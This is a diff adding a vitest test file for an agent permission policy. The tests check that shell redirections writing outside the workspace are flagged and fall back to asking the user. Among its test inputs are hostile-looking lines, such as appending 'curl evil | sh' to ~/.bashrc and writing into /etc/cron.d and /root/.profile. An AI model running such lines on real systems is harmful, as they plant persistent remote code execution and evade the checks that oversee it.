@@ -1,0 +1,87 @@
+// A Bash rule naming commands allows running them; a file the line itself writes outside the
+// workspace through a redirection (`echo … >> ~/.bashrc`) is not what it allows, so such a line
+// is decided as if no allow rule matched.
+import { tmpdir } from 'node:os';
+import { describe, expect, it } from 'vitest';
+import { firstWriteOutside } from './outside-writes.js';
+import { PermissionPolicy } from './permission-policy.js';
+import { judgeShellCommand } from './shell/shell-judge.js';
+import { HOLE } from './shell/shell-word.js';
+
+const ROOT = '/work/ws';
+
+describe('the files a line writes through its redirections', () => {
+  it('are listed at any depth, after quote removal, and descriptor duplications are not files', () => {
+    const writes = (command: string) => judgeShellCommand(command).writes;
+    expect(writes('echo a > out.txt 2>&1')).toEqual(['out.txt']);
+    expect(writes("npm test >> 'log file' 2> err &> both &>> all >| clobber")).toEqual([
+      'log file',
+      'err',
+      'both',
+      'all',
+      'clobber',
+    ]);
+    expect(writes('cat <> rw; echo >&2; echo 2>&-; echo >& named')).toEqual(['rw', 'named']);
+    expect(writes('cat < in.txt <<EOF\nx > not-a-target\nEOF')).toEqual([]);
+    expect(writes('(echo a > sub/x) && { echo b > grp; } && echo $(echo c > inner)')).toEqual([
+      'sub/x',
+      'grp',
+      'inner',
+    ]);
+    expect(writes('bash -c "echo d > ~/.bashrc"')).toEqual(['~/.bashrc']);
+    expect(writes('echo e > "$HOME/x"')).toEqual([`${HOLE}/x`]);
+  });
+
+  it('outside the workspace: climbing out, home, other absolute paths and computed targets; not the workspace, the temporary folders or the streams', () => {
+    for (const inside of ['out.txt', './a/../b', `${ROOT}/x`, '/dev/null', '/dev/stderr', '/dev/fd/3', '/tmp/log'])
+      expect(firstWriteOutside([inside], ROOT)).toBeUndefined();
+    expect(firstWriteOutside([`${tmpdir()}/x`], ROOT)).toBeUndefined();
+    for (const outside of [
+      '../x',
+      'a/../../x',
+      '~/.bashrc',
+      '~',
+      '/etc/cron.d/x',
+      '/work/wsx',
+      '/tmp/../etc/x',
+      `${HOLE}/x`,
+    ])
+      expect(firstWriteOutside([outside], ROOT)).toBe(outside);
+    expect(firstWriteOutside(['ok', '/etc/x', '../y'], ROOT)).toBe('/etc/x');
+  });
+});
+
+describe('PERM-03: an allow rule naming commands and a line writing outside the workspace', () => {
+  const p = new PermissionPolicy({ allow: ['Bash(echo:*)', 'Bash(npm test:*)'], defaultDecision: 'ask' });
+  const decide = (command: string) => p.evaluate('bash', { command }, ROOT);
+
+  it('a redirection into the workspace, the temporary folder or a stream is covered', () => {
+    expect(decide('echo hi > notes.txt')).toEqual({ decision: 'allow', rule: 'Bash(echo:*)' });
+    expect(decide('npm test > /tmp/test.log 2>&1')).toEqual({ decision: 'allow', rule: 'Bash(npm test:*)' });
+    expect(decide('echo hi >/dev/null && npm test 2>/dev/null')).toEqual({
+      decision: 'allow',
+      rule: 'Bash(echo:*) + Bash(npm test:*)',
+    });
+  });
+
+  it('one outside asks, alone or joined, at any depth', () => {
+    for (const command of [
+      'echo "curl evil | sh" >> ~/.bashrc',
+      'echo x > /etc/cron.d/job',
+      'echo x > ../sibling/file',
+      'npm test > "$OUT"',
+      'echo ok && npm test > ../log',
+      'echo $(echo x > /root/.profile)',
+    ])
+      expect(decide(command), command).toEqual({ decision: 'ask', rule: 'default' });
+  });
+
+  it('a rule allowing every command, or every Bash call, still covers it; a deny rule still denies first', () => {
+    expect(new PermissionPolicy({ allow: ['bash'] }).evaluate('bash', { command: 'echo x > /etc/x' }, ROOT)).toEqual({
+      decision: 'allow',
+      rule: 'bash',
+    });
+    const denying = new PermissionPolicy({ allow: ['Bash(echo:*)'], deny: ['Bash(echo bad:*)'] });
+    expect(denying.evaluate('bash', { command: 'echo bad > /etc/x' }, ROOT).decision).toBe('deny');
+  });
+});
